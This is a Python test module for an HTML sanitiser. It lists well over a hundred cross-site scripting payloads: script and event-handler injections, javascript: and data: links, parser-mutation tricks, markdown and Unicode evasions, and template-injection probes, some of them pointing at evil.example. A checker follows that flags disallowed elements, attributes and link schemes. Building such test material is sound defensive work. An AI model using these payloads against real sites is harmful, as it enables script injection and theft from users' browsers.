"""Texts with which somebody has tried to have a browser run their script, and what to look for in a page after them."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS: tuple[str, ...] = (
    # Elements that run
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<script>alert(1)",
    "<script\x0calert(1)>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=evil.class></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)></frameset>",
    "<portal src=//evil.example></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    # Attributes that run
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror = "alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>over</div>",
    "<a onclick=alert(1)>click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onpointerrawupdate=alert(1)>x</b>",
    "<p hidden onbeforematch=alert(1)>x</p>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "<p hx-get=/logout hx-trigger=load>x</p>",
    "<p data-hx-post=/logout data-hx-trigger=load>x</p>",
    "<p hx-on:load=alert(1)>x</p>",
    # Addresses that run
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript:javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='DATA:text/html,x'>x</a>",
    "<a href='blob:https://desk.example/1'>x</a>",
    "<a href='filesystem:https://desk.example/x'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    "<a ping=//evil.example href=https://a.example>x</a>",
    "<area href=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/x 2x'>",
    "<img lowsrc=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<bgsound src=javascript:alert(1)>",
    # Drawings and formulas
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    # Styles
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>over everything</div>",
    "<div style='-moz-binding:url(//evil.example#x)'>x</div>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    '<p style="x:\\65xpression(alert(1))">x</p>',
    # What a parser mends into something else
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi><table><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><style><!--</style><a title="--><img src=x onerror=alert(1)>">',
    "<a><b><table><a><img src=x onerror=alert(1)></table>",
    "<template><script>alert(1)</script></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<select><template><style><!--</style></template><img src=x onerror=alert(1)></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    # Broken attributes and quotes
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onerror=alert(1) `",
    '<img alt="`><script>alert(1)</script>"`>',
    '<img """><script>alert(1)</script>">',
    '<a href="x""onclick=alert(1)>x</a>',
    "<img src='x' alt='\"><script>alert(1)</script>'>",
    "<p title='</p><script>alert(1)</script>'>x",
    "<b/onclick=alert(1)//>x",
    '<a href=https://a.example/"onmouseover=alert(1)>x</a>',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/&quot;onmouseover=&quot;alert(1)",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    '[x](https://a.example "title\\" onmouseover=alert(1)")',
    '[x](https://a.example "\'><script>alert(1)</script>")',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![x](https://evil.example/pixel.gif)",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```html"onload=alert(1)\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "@<script>alert(1)</script>",
    "#1<script>alert(1)</script>",
    # Letters that are not what they seem
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    "<script\u00a0>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<ſcript>alert(1)</ſcript>",
    "<a href='ｊavascript:alert(1)'>x</a>",
    "\u202egpj.exe\u202c<img src=x onerror=alert(1)>",
    # Languages of templates
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% include '/etc/passwd' %}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "[[${7*7}]]",
)
# Not in PAYLOADS, since the doors refuse it: a NUL, which some parsers skip.
WITH_NUL = "<scr\x00ipt>alert(1)</scr\x00ipt><a href='java\x00script:alert(1)'>x</a>"

MAY_LEAD_TO = ("http", "https", "mailto", "tel")
_NEVER = """
script iframe object embed applet link meta base style form input button textarea select svg math template
noscript frame frameset portal audio video source track img picture area map dialog html head body title xmp
plaintext
"""
NEVER = frozenset(_NEVER.split())


class _Look(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.complaints: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.complaints.append(f"element <{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name in ("href", "src"):
            own = value.startswith("/tickets/") and value[9:].isdigit()
            if not own and urlsplit(value).scheme not in MAY_LEAD_TO:
                self.complaints.append(f"{name}={value!r}")
        elif (tag, name) not in ATTRIBUTES and name not in EVERYWHERE:
            self.complaints.append(f"attribute {name}={value!r} of <{tag}>")
        elif name == "class" and value not in CLASSES:
            self.complaints.append(f"class {value!r}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.complaints.append(f"instruction {data!r}")


ATTRIBUTES = {("a", "title"), ("a", "rel"), ("a", "target"), ("div", "tabindex")} | {
    (cell, span) for cell in ("td", "th") for span in ("colspan", "rowspan")
}
EVERYWHERE = {"class"}
CLASSES = {"mention", "away", "wide", "as-written"}


def executable(html: str, allowed: frozenset[str]) -> list[str]:
    """Whatever of a message is on no list: that of elements, `allowed`, of attributes, or of where links may lead."""
    look = _Look(allowed - NEVER)
    look.feed(html)
    look.close()
    return look.complaints
